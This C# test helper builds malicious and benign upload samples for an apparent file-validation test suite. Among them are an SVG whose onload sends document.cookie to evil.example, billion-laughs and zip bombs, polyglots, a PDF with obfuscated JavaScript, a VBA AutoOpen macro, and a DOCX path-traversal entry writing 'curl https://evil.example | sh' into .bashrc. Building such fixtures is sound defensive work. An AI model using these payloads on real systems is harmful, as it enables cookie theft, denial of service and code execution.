using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;
using DocumentFormat.OpenXml;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using DocumentFormat.OpenXml.Wordprocessing;
using SkiaSharp;

namespace TrainingApi.Tests.Features.Curriculum.Assets;

/// <summary>
/// Files an attacker (or an unlucky author) might upload, and well-formed ones to compare with, all built in code so that
/// no binary sample sits in the repository and each sample shows how it is made. Each builds anew on every call.
/// </summary>
public static class HostileFiles
{
    /// <summary>Text in the EXIF of the photo samples: must not be found in what the store keeps.</summary>
    public const string SecretArtist = "Jan Kowalski, 52.2297N 21.0122E";

    public const int PhotoWidth = 64;
    public const int PhotoHeight = 48;

    // ---- Images with metadata -------------------------------------------------------------------------------------------

    /// <summary>
    /// A 64 × 48 JPEG with an APP1 Exif segment: orientation 6 (shown turned 90° clockwise, so 48 × 64), an Artist and a
    /// GPS IFD with latitude and longitude, as a phone writes them.
    /// </summary>
    public static byte[] JpegWithGps()
    {
        var jpeg = SampleImages.Jpeg(PhotoWidth, PhotoHeight);
        var exif = Concat("Exif\0\0"u8.ToArray(), Tiff(orientation: 6));
        var segment = new byte[4 + exif.Length];
        segment[0] = 0xFF;
        segment[1] = 0xE1;
        BinaryPrimitives.WriteUInt16BigEndian(segment.AsSpan(2), (ushort)(exif.Length + 2));
        exif.CopyTo(segment, 4);
        return Concat(jpeg[..2], segment, jpeg[2..]);
    }

    /// <summary>A 64 × 48 PNG with an eXIf chunk (the same Exif with GPS, orientation 1) and a tEXt comment naming the place.</summary>
    public static byte[] PngWithGps()
    {
        var png = SampleImages.Png(PhotoWidth, PhotoHeight);
        const int afterIhdr = 8 + 25;
        return Concat(png[..afterIhdr], PngChunk("eXIf", Tiff(orientation: 1)),
            PngChunk("tEXt", Encoding.Latin1.GetBytes("Comment\0Taken at " + SecretArtist)), png[afterIhdr..]);
    }

    public static byte[] Webp()
    {
        using var surface = SKSurface.Create(new SKImageInfo(PhotoWidth, PhotoHeight));
        surface.Canvas.Clear(SKColors.Goldenrod);
        using var image = surface.Snapshot();
        using var data = image.Encode(SKEncodedImageFormat.Webp, 80);
        return data.ToArray();
    }

    /// <summary>A TIFF header and IFD0 (Orientation, Artist, GPS pointer) with a GPS IFD, little-endian.</summary>
    private static byte[] Tiff(ushort orientation)
    {
        var artist = Encoding.ASCII.GetBytes(SecretArtist + "\0");
        const int ifd0 = 8, ifd0Length = 2 + 3 * 12 + 4;
        const int gps = ifd0 + ifd0Length, gpsLength = 2 + 4 * 12 + 4;
        const int latitude = gps + gpsLength, longitude = latitude + 24, artistAt = longitude + 24;
        var tiff = new byte[artistAt + artist.Length];
        var s = tiff.AsSpan();
        "II*\0"u8.CopyTo(s);
        BinaryPrimitives.WriteUInt32LittleEndian(s[4..], ifd0);

        BinaryPrimitives.WriteUInt16LittleEndian(s[ifd0..], 3);
        Entry(s[(ifd0 + 2)..], 0x0112, 3, 1, orientation);
        Entry(s[(ifd0 + 14)..], 0x013B, 2, (uint)artist.Length, artistAt);
        Entry(s[(ifd0 + 26)..], 0x8825, 4, 1, gps);

        BinaryPrimitives.WriteUInt16LittleEndian(s[gps..], 4);
        Entry(s[(gps + 2)..], 0x0001, 2, 2, 'N');
        Entry(s[(gps + 14)..], 0x0002, 5, 3, latitude);
        Entry(s[(gps + 26)..], 0x0003, 2, 2, 'E');
        Entry(s[(gps + 38)..], 0x0004, 5, 3, longitude);

        Rationals(s[latitude..], 52, 1, 13, 1, 4692, 100);
        Rationals(s[longitude..], 21, 1, 0, 1, 4392, 100);
        artist.CopyTo(s[artistAt..]);
        return tiff;
    }

    private static void Entry(Span<byte> at, ushort tag, ushort type, uint count, uint value)
    {
        BinaryPrimitives.WriteUInt16LittleEndian(at, tag);
        BinaryPrimitives.WriteUInt16LittleEndian(at[2..], type);
        BinaryPrimitives.WriteUInt32LittleEndian(at[4..], count);
        if (type == 3)
        {
            BinaryPrimitives.WriteUInt16LittleEndian(at[8..], (ushort)value);
        }
        else
        {
            BinaryPrimitives.WriteUInt32LittleEndian(at[8..], value);
        }
    }

    private static void Rationals(Span<byte> at, params uint[] values)
    {
        for (var i = 0; i < values.Length; i++)
        {
            BinaryPrimitives.WriteUInt32LittleEndian(at[(4 * i)..], values[i]);
        }
    }

    // ---- SVG ------------------------------------------------------------------------------------------------------------

    /// <summary>An Inkscape-style diagram: a comment, metadata with RDF, the editor's namespaces, a gradient used by url(#…).</summary>
    public const string CleanSvg = """
        <?xml version="1.0" encoding="UTF-8" standalone="no"?>
        <!-- Created with Inkscape (http://www.inkscape.org/) -->
        <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
             xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
             xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:dc="http://purl.org/dc/elements/1.1/"
             width="400" height="300px" viewBox="0 0 400 300" inkscape:version="1.3" sodipodi:docname="schemat.svg">
          <sodipodi:namedview id="namedview1" inkscape:zoom="1.5" />
          <metadata><rdf:RDF><dc:creator>Jan Kowalski</dc:creator></rdf:RDF></metadata>
          <title>Schemat sieci szkolnej</title>
          <defs><linearGradient id="g1"><stop offset="0" stop-color="#fff"/><stop offset="1" stop-color="#06c"/></linearGradient></defs>
          <g inkscape:label="Warstwa 1" inkscape:groupmode="layer">
            <rect x="20" y="20" width="160" height="80" rx="8" style="fill:url(#g1);stroke:#333" />
            <use xlink:href="#box" x="200" />
            <text x="40" y="70" font-family="sans-serif" font-size="16">Serwer</text>
          </g>
        </svg>
        """;

    public const string SvgWithScript = """
        <svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><rect width="100" height="100"/><script>alert(document.cookie)</script></svg>
        """;

    public const string SvgWithOnload = """
        <svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="fetch('https://evil.example/?c='+document.cookie)"><circle r="40" cx="50" cy="50"/></svg>
        """;

    public const string SvgWithExternalHref = """
        <svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><use href="https://evil.example/sprite.svg#icon"/></svg>
        """;

    public const string SvgWithForeignObject = """
        <svg xmlns="http://www.w3.org/2000/svg" width="200" height="100"><foreignObject width="200" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.example"></iframe></body></foreignObject></svg>
        """;

    public const string SvgWithImage = """
        <svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><image href="data:image/png;base64,iVBORw0KGgo=" width="100" height="100"/></svg>
        """;

    public const string SvgWithCssUrl = """
        <svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><rect width="100" height="100" style="fill: url('https://tracker.example/pixel.svg#p')"/></svg>
        """;

    public const string SvgWithoutSize = """
        <svg xmlns="http://www.w3.org/2000/svg"><rect width="100" height="100"/></svg>
        """;

    /// <summary>The "billion laughs": ten levels of entities each ten times the previous, a gigabyte from a kilobyte.</summary>
    public static string SvgBillionLaughs()
    {
        var entities = new StringBuilder("  <!ENTITY lol0 \"lol\">\n");
        for (var i = 1; i <= 9; i++)
        {
            entities.Append("  <!ENTITY lol").Append(i).Append(" \"").Append(string.Concat(Enumerable.Repeat($"&lol{i - 1};", 10))).Append("\">\n");
        }

        return $"<?xml version=\"1.0\"?>\n<!DOCTYPE svg [\n{entities}]>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"100\" height=\"100\"><text y=\"20\">&lol9;</text></svg>";
    }

    /// <summary>The same multiplication without a DTD: ten levels of groups, each using the level below ten times.</summary>
    public static string SvgUseBomb()
    {
        var levels = new StringBuilder("<g id=\"l0\"><rect width=\"1\" height=\"1\"/></g>");
        for (var i = 1; i <= 9; i++)
        {
            levels.Append("<g id=\"l").Append(i).Append("\">").Append(string.Concat(Enumerable.Repeat($"<use href=\"#l{i - 1}\"/>", 10))).Append("</g>");
        }

        return $"<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"100\" height=\"100\"><defs>{levels}</defs><use href=\"#l9\"/></svg>";
    }

    // ---- Impostors and polyglots ----------------------------------------------------------------------------------------

    /// <summary>The start of a 64-bit Linux ELF executable (its header, then padding).</summary>
    public static byte[] ElfExecutable()
    {
        var elf = new byte[256];
        new byte[] { 0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0 }.CopyTo(elf, 0);
        BinaryPrimitives.WriteUInt16LittleEndian(elf.AsSpan(16), 2);
        BinaryPrimitives.WriteUInt16LittleEndian(elf.AsSpan(18), 0x3E);
        return elf;
    }

    /// <summary>The start of a Windows PE executable: the MZ header, the DOS stub's message, the PE signature.</summary>
    public static byte[] WindowsExecutable()
    {
        var exe = new byte[512];
        "MZ"u8.CopyTo(exe);
        BinaryPrimitives.WriteUInt32LittleEndian(exe.AsSpan(0x3C), 0x80);
        "This program cannot be run in DOS mode.\r\r\n$"u8.CopyTo(exe.AsSpan(0x4E));
        "PE\0\0"u8.CopyTo(exe.AsSpan(0x80));
        return exe;
    }

    public static byte[] HtmlPage() =>
        Encoding.UTF8.GetBytes("<!DOCTYPE html>\n<html><head><title>Zdjęcie</title></head><body><script>document.location='https://evil.example'</script></body></html>");

    /// <summary>A valid PNG with a ZIP archive appended: image viewers show the picture, unzip tools find the archive.</summary>
    public static byte[] PngZipPolyglot() => Concat(SampleImages.Png(32, 32), Zip(("payload/run.bat", "echo pwned")));

    /// <summary>A PDF with a ZIP archive in an uncompressed stream of its own.</summary>
    public static byte[] PdfWithZip()
    {
        var pdf = SampleImages.Pdf();
        var xref = IndexOf(pdf, "xref\n"u8);
        var zip = Zip(("hidden.exe", "MZ not really"));
        var stream = Concat(Encoding.ASCII.GetBytes($"6 0 obj\n<< /Length {zip.Length} >>\nstream\n"), zip, "\nendstream\nendobj\n"u8.ToArray());
        return Concat(pdf[..xref], stream, pdf[xref..]);
    }

    /// <summary>A PDF whose catalogue runs JavaScript when opened, the name spelt with a #xx escape as evasive files do.</summary>
    public static byte[] PdfWithJavaScript()
    {
        var pdf = Encoding.ASCII.GetString(SampleImages.Pdf());
        return Encoding.ASCII.GetBytes(pdf.Replace("<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /JS (app.alert('pwned')) >> >>", StringComparison.Ordinal));
    }

    /// <summary>
    /// A PNG whose IHDR says 20,000 × 20,000 (1.6 GB of pixels once decoded) with a small valid IDAT: a few hundred bytes that
    /// only a check of the header, before decoding, refuses cheaply.
    /// </summary>
    public static byte[] HugeDimensionsPng()
    {
        var header = new byte[13];
        BinaryPrimitives.WriteUInt32BigEndian(header, 20_000);
        BinaryPrimitives.WriteUInt32BigEndian(header.AsSpan(4), 20_000);
        header[8] = 8; // bit depth
        header[9] = 0; // greyscale
        using var idat = new MemoryStream();
        using (var zlib = new ZLibStream(idat, CompressionLevel.SmallestSize, leaveOpen: true))
        {
            zlib.Write(new byte[20_001 * 4]); // the first four rows: filter byte and 20,000 black pixels each
        }

        return Concat([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A], PngChunk("IHDR", header), PngChunk("IDAT", idat.ToArray()), PngChunk("IEND", []));
    }

    /// <summary>A 1 × 1 GIF: header, screen descriptor, a two-colour palette, one image block, the trailer.</summary>
    public static byte[] Gif() => Concat("GIF89a"u8.ToArray(),
        [1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0, 0xFF, 0xFF, 0xFF, 0x2C, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0, 0x3B]);

    /// <summary>A PNG cut short in its image data: no IEND.</summary>
    public static byte[] TruncatedPng()
    {
        var png = SampleImages.Png(PhotoWidth, PhotoHeight);
        return png[..(png.Length - 40)];
    }

    /// <summary>A valid JPEG with an HTML page after its end-of-image marker.</summary>
    public static byte[] JpegWithHtmlAfterEnd() => Concat(SampleImages.Jpeg(PhotoWidth, PhotoHeight),
        "<html><body><script>document.location='https://evil.example'</script></body></html>"u8.ToArray());

    /// <summary>A PNG padded to one byte more than the image limit.</summary>
    public static byte[] OneByteOverImageLimit(long limit)
    {
        var png = SampleImages.Png(16, 16);
        var file = new byte[limit + 1];
        png.CopyTo(file, 0);
        return file;
    }

    // ---- Office documents -----------------------------------------------------------------------------------------------

    public static byte[] Docx(string text = "Regulamin naboru do programu")
    {
        using var stream = new MemoryStream();
        using (var document = WordprocessingDocument.Create(stream, WordprocessingDocumentType.Document))
        {
            var main = document.AddMainDocumentPart();
            main.Document = new Document(new Body(new Paragraph(new DocumentFormat.OpenXml.Wordprocessing.Run(new DocumentFormat.OpenXml.Wordprocessing.Text(text)))));
        }

        return stream.ToArray();
    }

    public static byte[] Xlsx()
    {
        using var stream = new MemoryStream();
        using (var document = SpreadsheetDocument.Create(stream, SpreadsheetDocumentType.Workbook))
        {
            var workbook = document.AddWorkbookPart();
            workbook.Workbook = new Workbook();
            var sheetPart = workbook.AddNewPart<WorksheetPart>();
            sheetPart.Worksheet = new Worksheet(new SheetData(new Row(new Cell { CellValue = new CellValue("Harmonogram"), DataType = CellValues.String })));
            workbook.Workbook.AppendChild(new Sheets(new Sheet { Id = workbook.GetIdOfPart(sheetPart), SheetId = 1, Name = "Arkusz1" }));
        }

        return stream.ToArray();
    }

    /// <summary>A valid DOCX with a VBA project added, as a .docm renamed .docx would carry.</summary>
    public static byte[] MacroDocx()
    {
        using var stream = new MemoryStream();
        stream.Write(Docx());
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
        {
            using var vba = zip.CreateEntry("word/vbaProject.bin").Open();
            vba.Write([0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]);
            vba.Write("Attribute VB_Name = \"ThisDocument\"\nSub AutoOpen()\nShell \"calc.exe\"\nEnd Sub"u8);
        }

        return stream.ToArray();
    }

    /// <summary>
    /// A DOCX whose document.xml unpacks to <paramref name="unpackedMegabytes"/> MB of zeros: the zeros stream through the
    /// entry's deflate in 1 MB blocks, so the sample is about a thousandth of that and never held unpacked in memory.
    /// With <paramref name="lie"/> its headers declare the entry as 1 KB, to show the inspector counts the real bytes.
    /// </summary>
    public static byte[] DocxZipBomb(int unpackedMegabytes = 1024, bool lie = false)
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            using (var types = new StreamWriter(zip.CreateEntry("[Content_Types].xml").Open()))
            {
                types.Write("<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>");
            }

            using var document = zip.CreateEntry("word/document.xml", CompressionLevel.SmallestSize).Open();
            var zeros = new byte[1024 * 1024];
            for (var i = 0; i < unpackedMegabytes; i++)
            {
                document.Write(zeros);
            }
        }

        var bytes = stream.ToArray();
        if (lie)
        {
            DeclareSize(bytes, "word/document.xml", 1024);
        }

        return bytes;
    }

    /// <summary>A valid DOCX with an extra entry whose name climbs out of the folder it would be unpacked into.</summary>
    public static byte[] DocxWithPathTraversal() => WithEntry(Docx(), "../../../home/user/.bashrc", "curl https://evil.example | sh");

    /// <summary>A valid DOCX whose document part is marked encrypted (general purpose flag bit 0) in both of its headers.</summary>
    public static byte[] DocxWithEncryptedPart()
    {
        var docx = Docx();
        var name = Encoding.ASCII.GetBytes("word/document.xml");
        for (var at = 0; at + 46 < docx.Length; at++)
        {
            if (docx[at] == 'P' && docx[at + 1] == 'K' && docx[at + 2] == 3 && docx[at + 3] == 4 && docx.AsSpan(at + 30).StartsWith(name))
            {
                docx[at + 6] |= 1;
            }
            else if (docx[at] == 'P' && docx[at + 1] == 'K' && docx[at + 2] == 1 && docx[at + 3] == 2 && docx.AsSpan(at + 46).StartsWith(name))
            {
                docx[at + 8] |= 1;
            }
        }

        return docx;
    }

    /// <summary>An OpenDocument presentation: a real ODF file, but not one of the two ODF formats accepted.</summary>
    public static byte[] Odp() => OpenDocument("application/vnd.oasis.opendocument.presentation",
        "<office:body><office:presentation/></office:body>");

    public static byte[] Odt() => OpenDocument("application/vnd.oasis.opendocument.text",
        "<office:body><office:text><text:p>Regulamin naboru</text:p></office:text></office:body>");

    public static byte[] Ods() => OpenDocument("application/vnd.oasis.opendocument.spreadsheet",
        "<office:body><office:spreadsheet><table:table table:name=\"Arkusz1\"><table:table-row><table:table-cell office:value-type=\"string\"><text:p>Harmonogram</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet></office:body>");

    /// <summary>A plain ZIP archive: none of the four office formats.</summary>
    public static byte[] PlainZip() => Zip(("notatki.txt", "Notatki ze spotkania"), ("plan.txt", "Plan szkolenia"));

    private static byte[] WithEntry(byte[] zip, string name, string content)
    {
        using var stream = new MemoryStream();
        stream.Write(zip);
        using (var archive = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
        {
            Write(archive, name, content);
        }

        return stream.ToArray();
    }

    /// <summary>ODF: the first entry is <c>mimetype</c>, stored, then the manifest and the content.</summary>
    private static byte[] OpenDocument(string mimeType, string body)
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            Write(zip, "mimetype", mimeType, CompressionLevel.NoCompression);
            Write(zip, "META-INF/manifest.xml", $"""
                <?xml version="1.0" encoding="UTF-8"?>
                <manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">
                 <manifest:file-entry manifest:full-path="/" manifest:media-type="{mimeType}"/>
                 <manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>
                </manifest:manifest>
                """);
            Write(zip, "content.xml", $"""
                <?xml version="1.0" encoding="UTF-8"?>
                <office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" office:version="1.3">{body}</office:document-content>
                """);
        }

        return stream.ToArray();
    }

    private static byte[] Zip(params (string Name, string Content)[] entries)
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in entries)
            {
                Write(zip, name, content);
            }
        }

        return stream.ToArray();
    }

    private static void Write(ZipArchive zip, string name, string content, CompressionLevel level = CompressionLevel.Optimal)
    {
        using var writer = new StreamWriter(zip.CreateEntry(name, level).Open(), new UTF8Encoding(false));
        writer.Write(content);
    }

    /// <summary>Rewrites the uncompressed size of an entry in its local header and its central directory record.</summary>
    private static void DeclareSize(byte[] zip, string name, uint size)
    {
        var encoded = Encoding.ASCII.GetBytes(name);
        for (var at = 0; at + 46 < zip.Length; at++)
        {
            if (zip[at] != 'P' || zip[at + 1] != 'K')
            {
                continue;
            }

            if (zip[at + 2] == 3 && zip[at + 3] == 4 && zip.AsSpan(at + 30).StartsWith(encoded))
            {
                BinaryPrimitives.WriteUInt32LittleEndian(zip.AsSpan(at + 22), size);
            }
            else if (zip[at + 2] == 1 && zip[at + 3] == 2 && zip.AsSpan(at + 46).StartsWith(encoded))
            {
                BinaryPrimitives.WriteUInt32LittleEndian(zip.AsSpan(at + 24), size);
            }
        }
    }

    // ---- Bytes ----------------------------------------------------------------------------------------------------------

    private static byte[] PngChunk(string type, byte[] data)
    {
        var chunk = new byte[12 + data.Length];
        BinaryPrimitives.WriteUInt32BigEndian(chunk, (uint)data.Length);
        Encoding.ASCII.GetBytes(type).CopyTo(chunk, 4);
        data.CopyTo(chunk, 8);
        BinaryPrimitives.WriteUInt32BigEndian(chunk.AsSpan(8 + data.Length), Crc32(chunk.AsSpan(4, 4 + data.Length)));
        return chunk;
    }

    /// <summary>The CRC-32 of PNG chunks (ISO 3309, reflected, polynomial 0xEDB88320).</summary>
    private static uint Crc32(ReadOnlySpan<byte> bytes)
    {
        var crc = 0xFFFFFFFFu;
        foreach (var b in bytes)
        {
            crc ^= b;
            for (var k = 0; k < 8; k++)
            {
                crc = (crc & 1) != 0 ? 0xEDB88320u ^ (crc >> 1) : crc >> 1;
            }
        }

        return ~crc;
    }

    public static int IndexOf(byte[] haystack, ReadOnlySpan<byte> needle) => haystack.AsSpan().IndexOf(needle);

    private static byte[] Concat(params byte[][] parts) => parts.SelectMany(p => p).ToArray();
}
